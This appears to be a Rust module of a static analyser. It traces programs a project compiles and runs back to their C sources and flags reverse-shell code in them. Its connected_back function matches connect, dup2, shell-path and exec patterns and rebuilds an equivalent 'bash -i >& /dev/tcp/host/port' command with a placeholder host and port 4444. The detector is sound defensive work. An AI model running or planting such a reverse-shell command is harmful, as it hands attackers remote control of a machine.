//! Programs that a call compiles of the project's own sources and then starts: `./tests/t_ring` of `tests/t_ring.c`. Owns which source is looked at; what
//! is not there under the program's own name is not looked for.

use crate::{
    effect::Certainty,
    facts::NotRead,
    programs::{
        found::{File, Found},
        host::Host,
        invocation::Invocation,
    },
};
use portcullis_syntax::Span;

use super::project;

/// How sources end that are compiled into a program of their name.
const ENDINGS: &[&str] = &[".c", ".cc", ".cpp", ".cxx"];

/// Looks at the source of a program that is started by its path and is not there yet, or is no text.
pub(super) fn follow(walk: &mut dyn Host, invocation: &Invocation) {
    let Some(name) = invocation.name.text.as_known().filter(|name| name.contains('/')) else {
        return;
    };
    let last = name.rsplit('/').next().unwrap_or_default();
    if last.contains('.') && !last.ends_with(".out") || last.is_empty() {
        return;
    }
    let Some(path) = walk.target(&invocation.name.text).path else { return };
    let is_ours = walk.facts().workspace.as_deref().is_some_and(|root| path.starts_with(root));
    if !is_ours || !matches!(walk.look(&path), Found::Nothing | Found::NotRead(NotRead::Binary)) {
        return;
    }
    let paths = ENDINGS.iter().map(|end| format!("{path}{end}")).collect::<Vec<_>>();
    for path in &paths {
        walk.look(path);
    }
    for path in &paths {
        source(walk, path, invocation.span);
    }
}

/// What a source does that is compiled into a program which then runs.
pub(super) fn source(walk: &mut dyn Host, path: &str, span: Span) {
    let Some(file) = walk.look(path).file() else { return };
    walk.at_most(Certainty::Likely, |walk| {
        walk.run_text("c", &file, span, &[], None);
    });
    connected_back(walk, &file, span);
}

/// A shell whose input and output are a connection: `connect`, `dup2` of it, and a shell by `exec`. It is told as a shell says the same.
fn connected_back(walk: &mut dyn Host, file: &File, span: Span) {
    let text = &*file.text;
    let calls = |name: &str| text.contains(&format!("{name}("));
    let is_shell = ["\"/bin/sh\"", "\"/bin/bash\"", "\"sh\"", "\"bash\"", "\"/bin/zsh\""]
        .iter()
        .any(|shell| text.contains(shell));
    let runs = ["execl", "execle", "execlp", "execv", "execve", "execvp", "posix_spawn"];
    let is_bound = ["dup2", "dup3"].iter().any(|name| calls(name));
    if !(calls("connect") && is_bound && is_shell && runs.iter().any(|name| calls(name))) {
        return;
    }
    let quoted = text.split('"').skip(1).step_by(2);
    let is_host = |word: &&str| {
        word.contains('.')
            && word.bytes().all(|it| it.is_ascii_alphanumeric() || b".-:".contains(&it))
            && !word.ends_with(".h")
    };
    let host = quoted.into_iter().find(is_host).unwrap_or("198.51.100.1").to_owned();
    let port = text.split_once("htons(").and_then(|(_, rest)| rest.split(')').next());
    let port = port.filter(|it| it.bytes().all(|it| it.is_ascii_digit())).unwrap_or("4444");
    let code = format!("bash -i >& /dev/tcp/{host}/{port} 0>&1");
    walk.in_file(file, "c", span, |walk| {
        walk.at_most(Certainty::Likely, |walk| {
            walk.run(
                &project::arguments(&["bash", "-c", code.as_str()], Span::new(0, text.len())),
                None,
            )
        });
    });
}
